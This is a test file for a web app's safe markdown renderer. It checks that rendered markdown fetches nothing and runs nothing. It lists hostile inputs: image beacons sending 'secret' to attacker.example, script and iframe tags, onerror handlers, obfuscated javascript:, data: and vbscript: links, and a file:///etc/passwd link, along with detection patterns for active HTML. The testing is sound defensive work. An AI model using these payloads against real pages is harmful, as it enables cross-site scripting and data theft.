/** Markdown of models and outsiders: whatever is in it, showing it fetches nothing and runs nothing. */
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import ReactMarkdown from 'react-markdown';
import { markdownBlocks } from '../../../web/src/ui/markdown-blocks.ts';
import { SAFE } from '../../../web/src/ui/safe-markdown.ts';

const HOST = 'https://attacker.example';
const inline = (text: string): string =>
  renderToStaticMarkup(createElement(ReactMarkdown, { components: SAFE, children: text }));

/** As the page does: tables cell by cell, their heads as plain text. */
const shown = (text: string): string =>
  markdownBlocks(text)
    .map((block) => (block.type === 'text' ? inline(block.text) : block.rows.flat().map(inline).join('')))
    .join('');

/** Whatever would make a browser ask or run something by itself. */
const ACTIVE =
  /<(img|script|iframe|object|embed|link|style|svg|video|audio|source|base|form|meta)\b|\son\w+=|\ssrc=|srcset|url\(/i;
const BAD_ADDRESS = /href="(?!https?:|mailto:|#|\/|\?|")[^"]*:/i;

const HOSTILE: readonly string[] = [
  `![x](${HOST}/p.png?d=secret)`,
  `![x][1]\n\n[1]: ${HOST}/p.png`,
  `[![x](${HOST}/p.png)](${HOST})`,
  `<img src="${HOST}/p.png" onerror="alert(1)">`,
  `<iframe src="${HOST}"></iframe>`,
  '<script>alert(1)</script>',
  `<style>@import url(${HOST}/x.css)</style>`,
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '<javascript:alert(1)>',
  '[x][2]\n\n[2]: javascript:alert(1)',
  `| a |\n|---|\n| ![x](${HOST}/p.png) <img src=x> [x](javascript:alert(1)) |`,
  `| ![x](${HOST}/p.png) |\n|---|\n| a |`,
  `![${'x'.repeat(50)}](//attacker.example/p.png)`,
];

/** Tags alone: what stands in the text is shown, not obeyed. */
function assertQuiet(html: string): void {
  const tags = html.match(/<[^>]*>/g)?.join('') ?? '';
  assert.doesNotMatch(tags, ACTIVE);
  assert.doesNotMatch(tags, BAD_ADDRESS);
}

describe('Markdown on a page', () => {
  for (const text of HOSTILE) {
    it(`fetches nothing and runs nothing: ${JSON.stringify(text).slice(0, 60)}`, () => {
      assertQuiet(shown(text));
    });
  }

  it('fetches nothing and runs nothing, however the pieces are put together (property)', () => {
    const piece = fc.oneof(
      fc.constantFrom(...HOSTILE),
      fc.constantFrom('\n', '> ', '- ', '`', '**', '[', '](', ')', '|', '<', '&lt;', '```\n', '![a]('),
      fc.string({ maxLength: 5 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        assertQuiet(shown(pieces.join('')));
      }),
      { numRuns: 200 },
    );
  });

  it('keeps links that people can choose to follow, apart and without a trace', () => {
    assert.match(
      shown('[Details](https://example.com/a)'),
      /<a href="https:\/\/example\.com\/a" target="_blank" rel="noopener noreferrer nofollow">Details<\/a>/,
    );
    assert.match(shown(`![Chart](${HOST}/c.png)`), /\[image: Chart\]/);
  });
});
